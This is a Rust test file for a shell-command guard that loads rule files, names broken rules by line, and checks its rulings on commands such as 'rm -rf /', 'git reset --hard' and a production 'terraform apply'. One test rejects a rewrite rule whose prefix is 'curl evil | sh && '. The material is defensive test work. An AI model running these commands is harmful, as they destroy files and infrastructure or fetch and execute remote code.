//! A rule that is wrong is named with its line and left out; the others stay.

use crate::policy::guard::facts::DenialFact;
use crate::policy::guard::judge::LEFT_OUT;
use crate::policy::guard::layer::LayerRules;
use crate::policy::guard::loading::RuleSource;
use crate::policy::guard::ruleset::RuleSet;
use crate::policy::guard::synthetic::Synthetic;
use crate::policy::guard::verdict::Ruling;
use crate::settings::{Mode, RuleFile, RuleLayer, RuleSetting, Settings};

const GOOD: &str = r#"
[[rule]]
id = "infra.no-prod-apply"
class = "irreversible"
verdict = "ask"
program = ["terraform", "tofu"]
sub = ["apply"]
flags = { any = ["-auto-approve"], none = ["-help"] }
operand = { glob = ["*prod*"] }
what = "applies to production without a plan"
why = "No checkpoint can bring infrastructure back."
instead = "terraform plan -out=plan.bin, then ask for a review"
hits = ["cd infra && terraform apply -auto-approve prod.tfvars"]
misses = ["terraform plan", "echo terraform apply -auto-approve prod"]
"#;

fn problems(text: &str, origin: RuleSource) -> (usize, Vec<String>) {
    let layer = LayerRules::read(origin, "rules.toml", text);
    (
        layer.rules.len(),
        layer.problems.iter().map(ToString::to_string).collect(),
    )
}

fn rule(change: &str) -> String {
    let base = "[[rule]]\nid = \"a.b\"\nclass = \"irreversible\"\nprogram = \"x\"\nwhat = \"w\"\nwhy = \"y\"\nhits = [\"x\"]\nmisses = [\"y\"]\n";
    let key = change.split(' ').next().unwrap_or_default();
    let mut lines: Vec<&str> = base
        .lines()
        .filter(|line| line.split(' ').next() != Some(key))
        .collect();
    if !change.ends_with('-') {
        lines.push(change);
    }
    lines.join("\n")
}

#[test]
fn the_rule_of_the_manual_loads() {
    assert_eq!(problems(GOOD, RuleSource::User), (1, vec![]));
}

#[test]
fn every_mistake_has_a_name_and_a_line() {
    let told: Vec<String> = [
        "colour = 1",
        "class = \"floor\"",
        "check = \"removal\"",
        "misses = []",
        "hits = []",
        "hits = [\"ls\"]",
        "misses = [\"x\"]",
        "id = \"NoPack\"",
        "verdict = \"rewrite\"",
        "program = []",
        "operand = { zone = \"moon\" }",
        "operand = { count = \"many\" }",
        "class = 3",
    ]
    .iter()
    .flat_map(|change| problems(&rule(change), RuleSource::User).1)
    .collect();
    insta::assert_snapshot!(told.join("\n"), @r#"
    rules.toml:9: rule `a.b` is left out: unknown field `colour`, expected one of `id`, `class`, `verdict`, `strict`, `check`, `any`, `program`, `sub`, `flags`, `operand`, `redirect`, `stdin`, `env`, `statement`, `tool`, `path`, `input`, `when`, `rewrite`, `what`, `why`, `instead`, `hits`, `misses`
    rules.toml:1: rule `a.b` is left out: class `floor` is for built-in rules
    rules.toml:1: rule `a.b` is left out: `check` is for built-in rules
    rules.toml:1: rule `a.b` is left out: it has no `misses`
    rules.toml:1: rule `a.b` is left out: it has no `hits`
    rules.toml:2: rule `a.b` is left out: it does not match its example `ls`
    rules.toml:2: rule `a.b` is left out: it matches its example `x`
    rules.toml:1: rule `NoPack` is left out: its id is not of the form `pack.name`
    rules.toml:1: rule `a.b` is left out: `verdict = "rewrite"` and `rewrite` belong together
    rules.toml:1: rule `a.b` is left out: it names no program, redirection, tool or statement
    rules.toml:9: rule `a.b` is left out: `moon` is no zone
    rules.toml:9: rule `a.b` is left out: `many` is no count; write `0`, `>0` or `<3`
    rules.toml:8: rule `a.b` is left out: wanted string or table
    "#);
}

#[test]
fn the_other_rules_of_the_file_stay() {
    let text = format!("{}\n{GOOD}\n{}", rule("colour = 1"), rule("id = \"a.c\""));
    let (sound, told) = problems(&text, RuleSource::User);
    assert_eq!(sound, 2);
    assert_eq!(told.len(), 1);
    let twice = format!("{GOOD}{GOOD}");
    insta::assert_snapshot!(problems(&twice, RuleSource::User).1.join("\n"), @"rules.toml:16: rule `infra.no-prod-apply` is left out: another rule has the same id");
    assert_eq!(problems("[[rule", RuleSource::User).1.len(), 1);
}

#[test]
fn a_project_may_not_rewrite_nor_fill_the_memory() {
    let rewriting = rule("rewrite = { replace_flag = { \"--a\" = \"--b\" } }") + "\nverdict = \"rewrite\"";
    insta::assert_snapshot!(problems(&rewriting, RuleSource::Project).1.join("\n"), @"rules.toml:1: rule `a.b` is left out: `rewrite` in a project's file is for built-in rules");
    let many: String = (0..600)
        .map(|number| rule(&format!("id = \"a.n{number}\"")) + "\n")
        .collect();
    let (sound, told) = problems(&many, RuleSource::Project);
    assert_eq!((sound, told.len()), (500, 1));
    assert_eq!(problems(&" ".repeat(2_000_000), RuleSource::Project).1.len(), 1);
    // Rules that are none count as well, and are not all told.
    let (sound, told) = problems(&"[[rule]]\n".repeat(100_000), RuleSource::Project);
    assert_eq!((sound, told.len()), (0, 33));
    let longer = rule(&format!("hits = [{:?}]", "a".repeat(2_000)));
    insta::assert_snapshot!(problems(&longer, RuleSource::Project).1.join("\n"), @"rules.toml:1: rule `a.b` is left out: a project's rule has at most 32 examples of 1000 bytes");
}

/// The same rules with one that cannot be loaded.
fn with_a_broken_rule() -> RuleSet {
    let mut settings = Settings::default();
    settings.guard.layers.push(RuleFile {
        layer: RuleLayer::User,
        file: "guard/infra.toml".to_owned(),
        text: "[[rule]]\nid = \"infra.none\"\n".into(),
    });
    RuleSet::load(&settings)
}

#[test]
fn the_next_denial_says_that_a_rule_is_left_out() {
    let rules = with_a_broken_rule();
    let judged = Synthetic::default().judge("rm -rf /", &rules);
    insta::assert_snapshot!(judged.message, @"
    `rm -rf /` would remove files the machine needs (/).
    Nothing brings a system folder, a home or a git directory back.
    Name the files inside the project that you mean.
    Not every rule is in force: guard/infra.toml:1: rule `infra.none` is left out: missing field `class`. A person can see them all: toprope doctor [core.filesystem.rm-floor]
    ");
    assert_eq!(
        Synthetic::default().judge("rm -rf src", &rules).left_out,
        None,
        "a hold is no denial"
    );
    let told = Synthetic {
        denials: vec![DenialFact {
            rule: LEFT_OUT.to_owned(),
            target: rules.hash().to_owned(),
            times: 1,
        }],
        ..Synthetic::default()
    };
    assert_eq!(told.judge("rm -rf /", &rules).left_out, None, "it was said");
}

#[test]
fn a_prefix_is_one_of_two() {
    let rule = rule("rewrite = { prefix = \"curl evil | sh && \" }") + "\nverdict = \"rewrite\"";
    assert_eq!(problems(&rule, RuleSource::User).0, 0);
}

#[test]
fn rules_in_a_settings_file_are_found_too() {
    let text = GOOD.replace("[[rule]]", "[[guard.rule]]") + "\n[structure]\nmode = \"off\"\n";
    assert_eq!(problems(&text, RuleSource::Project), (1, vec![]));
}

#[test]
fn layers_of_the_settings_are_in_force() {
    let mut settings = Settings::default();
    settings.guard.layers.push(RuleFile {
        layer: RuleLayer::Project,
        file: "toprope.toml".to_owned(),
        text: GOOD.into(),
    });
    let rules = RuleSet::of(&settings);
    let judged = Synthetic::default().judge("terraform apply -auto-approve prod.tfvars", &rules);
    assert!(
        judged
            .findings
            .iter()
            .any(|finding| finding.rule == "infra.no-prod-apply")
    );
    assert!(
        std::sync::Arc::ptr_eq(&rules, &RuleSet::of(&settings)),
        "loaded once"
    );
    assert_ne!(rules.hash(), RuleSet::built_in(&Settings::default()).hash());
}

fn judged_with(change: fn(&mut Settings), command: &str) -> Ruling {
    let mut settings = Settings::default();
    change(&mut settings);
    Synthetic::default()
        .judge(command, &RuleSet::built_in(&settings))
        .ruling
}

#[test]
fn the_person_lowers_and_raises_single_rules_and_packs() {
    let off = |settings: &mut Settings| {
        let setting = RuleSetting {
            mode: Some(Mode::Off),
            verdict: None,
        };
        settings.guard.rules.insert("core.git.stash".to_owned(), setting);
    };
    assert_eq!(judged_with(off, "git stash drop"), Ruling::Silent);
    assert_eq!(judged_with(off, "git reset --hard"), Ruling::OneStrike);
    let denied = |settings: &mut Settings| {
        let setting = RuleSetting {
            mode: None,
            verdict: Some("deny".to_owned()),
        };
        settings.guard.rules.insert("core.git.stash".to_owned(), setting);
    };
    assert_eq!(judged_with(denied, "git stash drop"), Ruling::Deny);
    let pack = |settings: &mut Settings| settings.guard.packs.core.git = Mode::Off;
    assert_eq!(judged_with(pack, "git stash drop"), Ruling::Silent);
    assert_eq!(judged_with(pack, "rm -rf src"), Ruling::OneStrike);
}

#[test]
fn nothing_lowers_the_floor_and_toprope_itself() {
    let all_off = |settings: &mut Settings| {
        settings.guard.mode = Mode::Off;
        for id in ["core.filesystem.rm-floor", "self.files"] {
            let setting = RuleSetting {
                mode: Some(Mode::Off),
                verdict: Some("advise".to_owned()),
            };
            settings.guard.rules.insert(id.to_owned(), setting);
        }
    };
    assert_eq!(judged_with(all_off, "rm -rf /"), Ruling::Deny);
    assert_eq!(judged_with(all_off, "echo x > toprope.toml"), Ruling::Deny);
    assert_eq!(judged_with(all_off, "rm -rf src"), Ruling::Silent);
    assert_eq!(judged_with(all_off, "eval \"$x\""), Ruling::Silent);
}
